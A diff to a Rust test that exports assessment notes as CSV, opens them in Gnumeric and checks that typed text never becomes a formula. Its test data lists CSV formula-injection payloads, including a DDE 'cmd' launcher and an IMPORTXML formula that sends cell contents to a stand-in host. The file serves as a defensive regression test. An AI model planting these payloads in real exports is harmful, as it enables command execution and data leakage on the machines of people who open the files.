@@ -1,7 +1,7 @@
 //! Our CSV in a real spreadsheet program: Gnumeric reads it and writes a workbook, which is read back cell by cell.
 //!
-//! `cargo xtask test` brings the program and says where it is. What is proved: no cell has become a formula, every
-//! text is what was written (behind an apostrophe if it looked like a formula), and numbers are numbers.
+//! `cargo xtask test` brings the program and says where it is. What is proved: no cell has become a formula, every text
+//! is what was typed (the program takes our apostrophe for what it is, “this is text”), and numbers are numbers.
 #![allow(
     clippy::expect_used,
     clippy::indexing_slicing,
@@ -18,28 +18,25 @@ use windrose_assessment::{Answer, Assessment, Depth, Level, Response};
 use windrose_questions::BANK;
 use windrose_report::{Detail, EXAMPLES, Origin, Report, answers_csv, dimensions_csv};
 
-/// What people type or paste, and what is to be read in the cell.
-const NOTES: [(&str, &str); 17] = [
-    ("=HYPERLINK(\"http://x.example\",\"y\")", "'=HYPERLINK(\"http://x.example\",\"y\")"),
-    ("=1+1", "'=1+1"),
-    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
-    ("+1", "'+1"),
-    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1)", "'@SUM(A1)"),
-    (
-        "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
-        "'=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
-    ),
-    ("ask \"Kim\", then: \"=1+1\"", "ask \"Kim\", then: \"=1+1\""),
-    ("a,\"=1+1\",b", "a,\"=1+1\",b"),
-    ("two\nlines, the second\n=1+1", "two\nlines, the second\n=1+1"),
-    ("a\tb", "a\tb"),
-    ("Größe, naïve, Ærø, Łódź", "Größe, naïve, Ærø, Łódź"),
-    ("💠 👩‍🚀 注文", "💠 👩‍🚀 注文"),
-    ("＝1+1", "'＝1+1"),
-    ("a;b;c", "a;b;c"),
-    ("“so” – it’s done", "“so” – it’s done"),
+/// What people type or paste.
+const NOTES: [&str; 17] = [
+    "=HYPERLINK(\"http://x.example\",\"y\")",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
+    "ask \"Kim\", then: \"=1+1\"",
+    "a,\"=1+1\",b",
+    "two\nlines, the second\n=1+1",
+    "a\tb",
+    "Größe, naïve, Ærø, Łódź",
+    "💠 👩‍🚀 注文",
+    "＝1+1",
+    "a;b;c",
+    "“so” – it’s done",
 ];
 
 /// What Gnumeric makes of a CSV file.
@@ -55,13 +52,17 @@ fn opened(csv: &str) -> (Range<Data>, Range<String>) {
     (values, workbook.worksheet_formula(&sheet).expect("its formulas can be read"))
 }
 
-/// As when a file is opened by a double click: the program finds out encoding and divider by itself.
+/// The program is told that it is CSV, as by choosing the file type; it finds out the encoding by itself.
 #[track_caller]
 fn convert(source: &Path, target: &Path) {
     let program = std::env::var("WINDROSE_SSCONVERT")
         .expect("WINDROSE_SSCONVERT is not set: run this check with `cargo xtask test`");
     let mut command = Command::new(program);
-    command.args([source, target]).env("LC_ALL", "C.UTF-8").stdin(Stdio::null());
+    command
+        .arg("--import-type=Gnumeric_stf:stf_csvtab")
+        .args([source, target])
+        .env("LC_ALL", "C.UTF-8")
+        .stdin(Stdio::null());
     let output = command.output().expect("ssconvert starts");
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
 }
@@ -77,10 +78,10 @@ fn column(sheet: &Range<Data>, name: &str) -> usize {
 fn noted() -> Report {
     let mut assessment = Assessment::default();
     assessment.depth = Depth::Full;
-    for ((index, (_, capability)), (note, _)) in BANK.capabilities().enumerate().zip(NOTES.iter().cycle()) {
+    for ((index, (_, capability)), note) in BANK.capabilities().enumerate().zip(NOTES.into_iter().cycle()) {
         let level = Level::ALL[index % Level::ALL.len()];
         let answer = if index == 3 { Answer::NotApplicable } else { Answer::Level(level) };
-        let text = || (*note).to_owned();
+        let text = || note.to_owned();
         let (note, reason, evidence_link) = (text(), text(), text());
         assessment
             .record(capability.slot, Response { answer, note, reason, evidence_link, ..Response::default() });
@@ -98,12 +99,19 @@ fn what_people_type_stays_text() {
     assert_eq!(sheet.height(), 1 + BANK.capabilities().count());
     let (note, link, reason) =
         (column(&sheet, "note"), column(&sheet, "evidence_link"), column(&sheet, "reason"));
-    for (row, (typed, shown)) in sheet.rows().skip(1).zip(NOTES.iter().cycle()) {
+    for (row, typed) in sheet.rows().skip(1).zip(NOTES.into_iter().cycle()) {
         for at in [note, link] {
-            assert_eq!(row[at], Data::String((*shown).to_owned()), "{typed}");
+            assert_eq!(row[at], Data::String(typed.to_owned()));
         }
     }
-    assert_eq!(sheet.rows().nth(4).expect("a row")[reason], Data::String(NOTES[3].1.to_owned()));
+    assert_eq!(sheet.rows().nth(4).expect("a row")[reason], Data::String(NOTES[3].to_owned()));
+}
+
+/// So that the test above can fail: this program runs what is not neutralised.
+#[test]
+fn what_is_not_neutralised_becomes_a_formula() {
+    let (_, formulas) = opened("note\r\n=1+1\r\n");
+    assert!(formulas.used_cells().any(|(_, _, formula)| formula == "1+1"), "{formulas:?}");
 }
 
 #[test]
